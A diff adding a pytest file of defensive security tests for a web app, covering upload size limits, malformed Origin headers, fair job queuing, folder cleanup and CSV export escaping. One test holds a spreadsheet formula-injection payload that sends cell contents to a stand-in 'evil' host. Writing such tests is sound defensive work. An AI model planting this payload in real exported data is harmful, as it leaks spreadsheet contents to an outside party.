@@ -1,0 +1,88 @@
+"""What one visitor can do to the studio and to others.  Beside each test: the wrong implementation it catches."""
+
+from __future__ import annotations
+
+import csv
+import io
+from collections.abc import Iterator
+from dataclasses import replace
+from pathlib import Path
+
+import pytest
+
+from moireid.badge import Badge
+from moireid.fabrication.event import _summary
+from moireid.fabrication.mount import MountFigures
+from moireid.fabrication.parts import Parts
+from moireid.web import jobs as jobs_module
+from moireid.web.jobs import Jobs
+from moireid.web.problems import Refusal
+from moireid.web.settings import Limits
+from webbing import Visit, studio
+
+
+@pytest.fixture(scope="module")
+def visit(tmp_path_factory: pytest.TempPathFactory, ada: Badge) -> Iterator[Visit]:
+    folder = tmp_path_factory.mktemp("fair")
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setenv("MOIREID_KEYS", str(folder / "keys"))
+        with studio(folder, ada, work=False, form_bytes=1 << 16) as made:
+            yield made
+
+
+@pytest.mark.parametrize("path", ["/login", "/registry/audit"])
+def test_a_form_is_read_no_further_than_its_limit(visit: Visit, path: str) -> None:
+    """Catches: a form that is spooled to the disk before anybody asks who sends it, as much as is sent."""
+    answer = visit.ask("POST", path, None, files={"x": ("y", bytes(1 << 20))})
+    assert answer.status_code == 413
+
+
+@pytest.mark.parametrize("headers", [{"Origin": "http://["}, {"Origin": "//["}])
+def test_an_address_that_is_none_is_refused(visit: Visit, headers: dict[str, str]) -> None:
+    """Catches: a traceback, and an answer without its headers, where an address cannot be taken apart."""
+    answer = visit.ask("POST", "/logout", None, headers=headers)
+    assert answer.status_code == 403 and "content-security-policy" in answer.headers
+
+
+def test_one_owner_leaves_places_to_others(tmp_path: Path) -> None:
+    """Catches: a queue that one visitor fills with uploads that never end."""
+    held = Jobs(tmp_path / "jobs", Limits(workers=2, waiting=10))
+    (tmp_path / "jobs").mkdir()
+    for _ in range(9):
+        held.admit("verify", "greedy")
+    with pytest.raises(Refusal):
+        held.admit("verify", "greedy")
+    assert [held.admit("verify", "another").owner for _ in range(3)] == ["another"] * 3
+
+
+def test_results_are_counted_by_owner(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Catches: one visitor's many results that push out another's one."""
+    monkeypatch.setattr(jobs_module, "SWEEP_S", 0.01)
+    kept = Jobs(tmp_path / "jobs", Limits(workers=1, kept=2, keep_s=1000.0))
+    (tmp_path / "jobs").mkdir()
+    one, *many = [kept.admit("verify", owner) for owner in ("one", "many", "many", "many", "many")]
+    for place, job in enumerate([one, *many]):
+        job.state, job.ended_s = "done", 1e9 + place
+    waits = iter([False, True])
+    monkeypatch.setattr(kept._stopping, "wait", lambda _: next(waits))
+    kept._sweep()
+    assert kept.find(one.id, "one") is one
+    assert [job.id in kept._jobs for job in many] == [False, False, True, True]
+
+
+def test_what_is_not_ours_stays_in_the_folder(tmp_path: Path) -> None:
+    """Catches: a server that empties a folder which was somebody's before."""
+    folder = tmp_path / "jobs"
+    (folder / ("0" * 32)).mkdir(parents=True)
+    (folder / "mine.txt").write_text("mine")
+    work = Jobs(folder, Limits(workers=1))
+    work.start()
+    work.stop()
+    assert [path.name for path in folder.iterdir()] == ["mine.txt"]
+
+
+def test_a_name_is_no_formula(ada: Badge) -> None:
+    """Catches: a list of people that a table's program works out."""
+    named = replace(ada, name='=HYPERLINK("http://evil/?"&A1,"x")')
+    rows = list(csv.DictReader(io.StringIO(_summary(["001-x"], [named], Parts("none", None, MountFigures())))))
+    assert rows[0]["name"] == "'" + named.name
